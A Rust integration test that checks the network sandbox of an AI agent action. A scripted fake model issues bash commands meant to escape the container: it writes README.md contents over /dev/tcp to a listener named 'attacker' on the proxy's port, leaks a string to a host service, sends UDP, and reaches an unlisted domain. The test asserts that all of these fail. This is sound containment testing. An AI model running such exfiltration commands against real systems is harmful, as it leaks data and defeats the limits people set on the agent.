//! The agent's commands in a container with no network (docs/security.md#the-agents-network), from
//! the action's image with the Docker socket mounted as the runner mounts it: the ways past the
//! port-based rules (another address on the egress proxy's port, a host service on an
//! `agent-ports` port, UDP) reach nothing, the listed host still answers through the proxy, and the
//! container is gone after the run, after a SIGTERM, and after a SIGKILL of main (post).

use std::io::Read;
use std::process::{Command, Stdio};
use std::sync::atomic::{AtomicBool, Ordering};
use std::sync::{Arc, Mutex};
use std::time::{Duration, Instant};

use fro_bot::confine::sibling::spec::LABEL;
use serde_json::json;

use super::egress::{line, network_row};
use super::scenarios::{main_step, World};
use crate::support::action::{comment_event, explain, Job, Launch};
use crate::support::fake_llm::{request_text, Reply};

fn docker(args: &[&str]) -> String {
    let out = Command::new("docker")
        .args(args)
        .stdin(Stdio::null())
        .output()
        .expect("docker runs");
    String::from_utf8_lossy(&out.stdout).trim().to_string()
}

/// The agent's containers of the step container `id`, running or not.
fn siblings_of(id: &str) -> Vec<String> {
    let filter = format!("label={LABEL}={id}");
    docker(&["ps", "-aq", "--filter", &filter])
        .lines()
        .map(str::to_string)
        .collect()
}

/// A listener standing in for an attacker's host: everything sent to it.
fn attacker(addr: &str) -> (u16, Arc<Mutex<Vec<u8>>>) {
    let l = std::net::TcpListener::bind(addr).unwrap();
    let port = l.local_addr().unwrap().port();
    let got = Arc::new(Mutex::new(Vec::new()));
    let sink = got.clone();
    std::thread::spawn(move || {
        for conn in l.incoming() {
            let Ok(mut conn) = conn else { break };
            let mut buf = Vec::new();
            let _ = conn.set_read_timeout(Some(Duration::from_secs(5)));
            let _ = conn.read_to_end(&mut buf);
            sink.lock().unwrap().extend(buf);
        }
    });
    (port, got)
}

pub async fn the_agents_commands_reach_no_address_but_the_egress_proxy(launch: Launch) {
    let world = World::start_with(launch).await;
    world.github.seed_issue(7, "Reach out", "x");
    let listed = crate::support::web::serve("listed-page-body").await;
    // A host service on a port the workflow lets the agent use (`agent-ports`).
    let (service, service_got) = attacker("127.0.0.1:0");
    let udp = std::net::UdpSocket::bind("127.0.0.1:0").unwrap();
    udp.set_nonblocking(true).unwrap();
    let udp_port = udp.local_addr().unwrap().port();
    let mut job = world.job(4300);
    job.owned_by_runner_user(1001);
    job.input("allowed-domains", format!("localhost:{listed}"));
    job.input("agent-ports", service.to_string());
    // First the agent learns its proxy's port; the test then listens on another loopback
    // address on that same port (an attacker's host listening on every port).
    world.llm.push(Reply::tool(
        "bash",
        json!({"command": "echo \"== port ${HTTPS_PROXY##*:}\"", "description": "look"}),
    ));
    let script = format!(
        "p=${{HTTPS_PROXY##*:}}
r=$( (exec 3<>/dev/tcp/127.0.0.2/$p && head -c 200 README.md >&3) 2>&1 | head -n1); echo \"== other-address rc=$? $r\"
r=$( (exec 3<>/dev/tcp/127.0.0.1/{service} && echo leaked-to-service >&3) 2>&1 | head -n1); echo \"== service $r\"
r=$( (echo leak >/dev/udp/127.0.0.1/{udp_port}) 2>&1 | head -n1); echo \"== udp $r\"
echo \"== listed $(curl -sS --max-time 10 http://localhost:{listed}/ 2>&1) rc=$?\"
echo \"== unlisted $(curl -sS --max-time 10 http://unlisted.example/ 2>&1)\""
    );
    world.llm.push(Reply::tool(
        "bash",
        json!({"command": script, "description": "reach out"}),
    ));
    world.llm.push(Reply::text("Reached what I could."));
    let ready = Arc::new(AtomicBool::new(false));
    let held = ready.clone();
    world
        .llm
        .hold_while(move |_, reqs| reqs.len() == 2 && !held.load(Ordering::SeqCst));
    let other = Arc::new(Mutex::new(None));
    let watcher = {
        let (requests, ready, other) = (world.llm.clone(), ready.clone(), other.clone());
        tokio::spawn(async move {
            let deadline = Instant::now() + Duration::from_secs(120);
            while Instant::now() < deadline {
                let reqs = requests.requests();
                if let Some(port) = reqs.get(1).and_then(|r| proxy_port(&request_text(r))) {
                    *other.lock().unwrap() = Some(attacker(&format!("127.0.0.2:{port}")));
                    ready.store(true, Ordering::SeqCst);
                    return;
                }
                tokio::time::sleep(Duration::from_millis(20)).await;
            }
        })
    };
    job.event("issue_comment", &comment_event(7, 1, "@fro-bot reach out"));
    let (job, r) = main_step(job).await;
    watcher.await.unwrap();
    assert_eq!(r.code, 0, "{}", explain(&r));
    let last = world.llm.requests().last().cloned().unwrap();
    let out = request_text(&last);
    eprintln!("--- what the agent got ---\n{out}\n---");
    let (_, other_got) = other
        .lock()
        .unwrap()
        .clone()
        .expect("the proxy's port was read");
    std::thread::sleep(Duration::from_millis(300));
    assert!(
        other_got.lock().unwrap().is_empty(),
        "another address on the proxy's port received {:?}",
        String::from_utf8_lossy(&other_got.lock().unwrap())
    );
    assert!(line(&out, "other-address").contains("refused"), "{out}");
    assert!(
        service_got.lock().unwrap().is_empty(),
        "the host's service received what the agent sent"
    );
    assert!(line(&out, "service").contains("refused"), "{out}");
    assert!(
        udp.recv(&mut [0u8; 16]).is_err(),
        "no datagram left the agent"
    );
    assert!(
        line(&out, "listed").contains("listed-page-body rc=0"),
        "{out}"
    );
    assert!(
        line(&out, "unlisted").contains("host not on allowed-domains"),
        "{out}"
    );
    let row = network_row(&r);
    assert!(row.contains("ran in a container with no network"), "{row}");
    assert!(row.contains("inside the agent's container only"), "{row}");
    drop(job);
    let id = r
        .stdout
        .split("the agent's commands run in container ")
        .nth(1)
        .and_then(|rest| rest.split_whitespace().next())
        .unwrap_or_else(|| panic!("the log names the agent's container\n{}", explain(&r)));
    assert_eq!(
        docker(&["ps", "-aq", "--filter", &format!("id={id}")]),
        "",
        "{id} is left"
    );
    assert_eq!(
        r.state.get("agentSibling").map(String::as_str),
        Some(""),
        "main removed it"
    );
}

/// `== port N` in what the agent was sent.
fn proxy_port(text: &str) -> Option<u16> {
    text.lines()
        .find_map(|l| l.trim().strip_prefix("== port "))
        .and_then(|p| p.trim().parse().ok())
}

/// The step's container's id once the agent's command (`sleep 600`) runs in its agent's
/// container.
async fn sleeping_in_sibling(name: &str) -> String {
    let deadline = Instant::now() + Duration::from_secs(120);
    loop {
        let id = docker(&["inspect", "-f", "{{.Id}}", name]);
        let sleeping = siblings_of(&id)
            .iter()
            .any(|s| docker(&["top", s]).contains("sleep 600"));
        if !id.is_empty() && sleeping {
            return id;
        }
        assert!(
            Instant::now() < deadline,
            "the command never ran in the agent's container"
        );
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
}

async fn gone(owner: &str) -> bool {
    let deadline = Instant::now() + Duration::from_secs(15);
    while Instant::now() < deadline {
        if siblings_of(owner).is_empty() {
            return true;
        }
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
    false
}

/// A command that runs until it is killed, held in the turn.
fn sleeping_job(world: &World, run_id: u64) -> Job {
    world.github.seed_issue(5, "Sleep", "x");
    let mut job = world.job(run_id);
    job.owned_by_runner_user(1001);
    world.llm.push(Reply::tool(
        "bash",
        json!({"command": "echo started; sleep 600", "description": "wait", "timeout": 600000}),
    ));
    world.llm.push(Reply::text("Done."));
    job.event("issue_comment", &comment_event(5, 1, "@fro-bot wait"));
    job
}

pub async fn the_agents_container_ends_with_a_sigterm_and_post_removes_what_a_killed_main_left(
    launch: Launch,
) {
    for signal in [libc::SIGTERM, libc::SIGKILL] {
        let world = World::start_with(launch.clone()).await;
        let job = sleeping_job(&world, 4310 + signal as u64);
        let running = job.spawn(&["run"], &[]);
        let name = running
            .container_name()
            .expect("a container launch")
            .to_string();
        let owner = sleeping_in_sibling(&name).await;
        running.signal(signal);
        let (job, main) = tokio::task::spawn_blocking(move || {
            let r = job.finish(running);
            (job, r)
        })
        .await
        .unwrap();
        if signal == libc::SIGTERM {
            assert!(
                siblings_of(&owner).is_empty(),
                "left after a SIGTERM\n{}",
                explain(&main)
            );
            continue;
        }
        // Killed outright: its lifeline ends the container, and post removes whatever is left.
        let post = tokio::task::spawn_blocking(move || job.post_step(&main))
            .await
            .unwrap();
        assert!(
            gone(&owner).await,
            "left after a SIGKILL of main and post\n{}",
            explain(&post)
        );
    }
}
